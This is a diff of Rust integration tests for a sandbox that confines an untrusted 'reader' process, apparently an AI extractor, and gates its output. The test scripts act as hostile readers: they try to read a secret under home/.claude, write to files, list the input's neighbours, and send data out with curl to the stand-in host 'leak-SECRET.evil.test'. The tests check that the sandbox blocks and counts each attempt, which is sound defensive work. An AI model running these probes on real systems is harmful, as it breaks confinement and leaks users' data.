@@ -136,9 +136,10 @@ fn output_written_in_pieces_is_gated_as_it_comes_and_a_spoiled_end_spoils_it_all
         (rejected.len(), &rejected[0]["index"]),
         (1, &Value::from(1))
     );
-    assert_eq!(
-        rejected[0]["reference"], "123",
-        "the number whole, not the 12 that came first"
+    let reason = rejected[0]["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("found a number (an element of 3 bytes)"),
+        "the number whole, not the 12 that came first: {reason}"
     );
     // The same good start with a bad end: nothing that passed the gate early comes back.
     let spoiled = reader(
@@ -190,8 +191,11 @@ fn timeouts_exit_codes_signals_malformed_and_flooding_output_are_reported() {
     let (code, result, _) = quarantine(&d, &["--command", &crash, &input]);
     assert_eq!((code, &result["exitCode"]), (1, &Value::from(3)));
     let error = result["errors"][0].as_str().unwrap();
+    // The reader's stderr is its text too: measured, not shown.
     assert!(
-        error.contains("exited with code 3") && error.contains("no API key"),
+        error.contains("exited with code 3")
+            && error.contains("its stderr held 25 bytes")
+            && !error.contains("no API key"),
         "{error}"
     );
 
@@ -211,7 +215,9 @@ fn timeouts_exit_codes_signals_malformed_and_flooding_output_are_reported() {
     let (_, result, _) = quarantine(&d, &["--command", &malformed, &input]);
     let error = result["errors"][0].as_str().unwrap();
     assert!(
-        error.contains("malformed output") && error.contains("Sure! Here"),
+        error.contains("malformed output")
+            && error.contains("not valid JSON, at byte 0 of 36 bytes")
+            && !error.contains("Sure! Here"),
         "{error}"
     );
 
@@ -235,8 +241,26 @@ fn timeouts_exit_codes_signals_malformed_and_flooding_output_are_reported() {
 }
 
 both_users! {
+    /// The reader tries to read, write and list what it must not. Its findings come back only through
+    /// the gate, which is the point: it reports each probe as a reference quoting a line of the input
+    /// that holds the expected outcome, so a probe passes the gate exactly when it came out as expected
+    /// (a rejection would not say what the reader saw).
     fn the_sandbox_stops_a_reader_that_ignores_its_profile(d) {
-        let input = project(&d);
+        let expected = [
+            "secret:FAILED", "notes:FAILED", "unlisted:FAILED", "write:FAILED", "input:homepage",
+            // Not even the names of the input's neighbours: the reader learns nothing else is there.
+            "neighbour:ABSENT",
+            // The input is a read-only snapshot (mode 444, the host's is 644) of the bytes the gate
+            // read, in the sandbox's own root: no mount of the host's file.
+            "input-write:FAILED", "input-mode:444", "input-mounts:0",
+            // Its directory lists the inputs alone (one Landlock rule covers a directory of snapshots).
+            "listing:PROJECT.yaml",
+        ];
+        d.write(
+            "other/PROJECT.yaml",
+            &format!("homepage: https://a.example/x\n{}\n", expected.join("\n")),
+        );
+        let input = d.path("other/PROJECT.yaml").display().to_string();
         d.write("home/.claude/skills/CORE/USER/secret.txt", "PERSONAL DATA\n");
         d.write("home/notes.txt", "HOME NOTE\n");
         d.write("other/not-listed.txt", "NOT LISTED\n");
@@ -252,8 +276,16 @@ e=$(try cat "$1" | head -c 8)
 f=$(test -e {unlisted} && echo SEEN || echo ABSENT)
 g=$(echo x >> "$1" 2>/dev/null && echo WROTE || echo FAILED)
 h=$(stat -c %a "$1"); i=$(grep -c " $1 " /proc/self/mountinfo)
-j=$(ls -A "$(dirname "$1")" | tr '\n' ' ')
-printf '["secret:%s","notes:%s","unlisted:%s","write:%s","input:%s","neighbour:%s","input-write:%s","input-mode:%s","input-mounts:%s","listing:%s"]' "$a" "$b" "$c" "$d" "$e" "$f" "$g" "$h" "$i" "$j""#,
+j=$(ls -A "$(dirname "$1")" | tr '\n' ' ' | sed 's/ $//')
+sep='['
+for probe in "secret:$a" "notes:$b" "unlisted:$c" "write:$d" "input:$e" "neighbour:$f" "input-write:$g" \
+             "input-mode:$h" "input-mounts:$i" "listing:$j"; do
+  line=$(grep -nxF "$probe" "$1" | head -n1 | cut -d: -f1)
+  printf '%s{{"kind":"path","value":"%s","source":{{"file":"%s","line":%s,"quote":"%s"}}}}' \
+    "$sep" "$probe" "$1" "${{line:-1}}" "$probe"
+  sep=','
+done
+printf ']'"#,
                 secret = d.path("home/.claude/skills/CORE/USER/secret.txt").display(),
                 notes = d.path("home/notes.txt").display(),
                 unlisted = d.path("other/not-listed.txt").display(),
@@ -263,23 +295,13 @@ printf '["secret:%s","notes:%s","unlisted:%s","write:%s","input:%s","neighbour:%
         let secret = d.path("home/.claude/skills/CORE/USER/secret.txt").display().to_string();
         let (code, result, stderr) = quarantine(&d, &["--command", &evil, &input, &secret]);
         assert_eq!(code, 0, "{stderr}");
-        let seen: Vec<String> = result["rejected"]
+        let passed: Vec<&str> = result["references"]
             .as_array()
             .unwrap()
             .iter()
-            .map(|r| r["reference"].as_str().unwrap().to_string())
+            .map(|r| r["value"].as_str().unwrap())
             .collect();
-        assert_eq!(
-            seen,
-            ["\"secret:FAILED\"", "\"notes:FAILED\"", "\"unlisted:FAILED\"", "\"write:FAILED\"", "\"input:homepage\"",
-             // Not even the names of the input's neighbours: the reader learns nothing else is there.
-             "\"neighbour:ABSENT\"",
-             // The input is a read-only snapshot (mode 444, the host's is 644) of the bytes the gate
-             // read, in the sandbox's own root: no mount of the host's file.
-             "\"input-write:FAILED\"", "\"input-mode:444\"", "\"input-mounts:0\"",
-             // Its directory lists the inputs alone (one Landlock rule covers a directory of snapshots).
-             "\"listing:PROJECT.yaml \""]
-        );
+        assert_eq!(passed, expected, "{result}");
         assert_eq!(std::fs::metadata(&input).unwrap().permissions().mode() & 0o777, 0o644);
         assert!(!d.path("home/pwned").exists());
         assert_eq!(result["filesProcessed"], 1, "the denied input is not given to the reader");
@@ -404,4 +426,73 @@ fn cross_project_paths_are_reachable_only_through_the_quarantine() {
     let (code, result, stderr) = quarantine(&d, &[&input]);
     assert_eq!(code, 0, "{stderr}");
     assert_eq!(result["references"][0]["value"], "https://a.example/x");
+}
+
+/// The reader's network: none at all by default, and with `--net-allow` only the proxy, which refuses
+/// every other host; the refusal is counted, and the host (the reader's text) named nowhere.
+#[test]
+fn the_readers_network_is_only_the_hosts_granted() {
+    if !landlock_ready() {
+        return;
+    }
+    let d = TestDir::new(Who::Root);
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let expected = ["direct:000", "proxy:000"];
+    d.write("other/PROJECT.yaml", &format!("{}\n", expected.join("\n")));
+    d.write("other/PROJECT2.yaml", "direct:000\nproxy:403\n");
+    let probe = reader(
+        &d,
+        "probe",
+        &format!(
+            r#"a=$(curl -s -m 3 -o /dev/null -w '%{{http_code}}' --noproxy '*' http://127.0.0.1:{port}/)
+b=$(curl -s -m 3 -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:3128 http://leak-SECRET.evil.test:{port}/)
+sep='['
+for probe in "direct:$a" "proxy:$b"; do
+  line=$(grep -nxF "$probe" "$1" | head -n1 | cut -d: -f1)
+  printf '%s{{"kind":"path","value":"%s","source":{{"file":"%s","line":%s,"quote":"%s"}}}}' \
+    "$sep" "$probe" "$1" "${{line:-1}}" "$probe"
+  sep=','
+done
+printf ']'"#
+        ),
+    );
+    let values = |result: &Value| -> Vec<String> {
+        result["references"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| r["value"].as_str().unwrap().to_string())
+            .collect()
+    };
+    let input = d.path("other/PROJECT.yaml").display().to_string();
+    let (code, result, stderr) = quarantine(&d, &["--command", &probe, &input]);
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(values(&result), expected, "{result}");
+
+    let input = d.path("other/PROJECT2.yaml").display().to_string();
+    let (code, result, stderr) = quarantine(
+        &d,
+        &[
+            "--command",
+            &probe,
+            "--net-allow",
+            "docs.example.com",
+            &input,
+        ],
+    );
+    assert_eq!(code, 0, "{stderr}");
+    assert_eq!(values(&result), ["direct:000", "proxy:403"], "{result}");
+    let errors = result["errors"].to_string();
+    assert!(
+        errors.contains("tried 1 connection(s) its network policy refused")
+            && !errors.contains("SECRET"),
+        "{errors}"
+    );
+    let audit = d.read("audit.jsonl").unwrap_or_default();
+    assert!(
+        audit.contains("tried 1 connection(s)") && !audit.contains("SECRET"),
+        "{audit}"
+    );
+    drop(listener);
 }
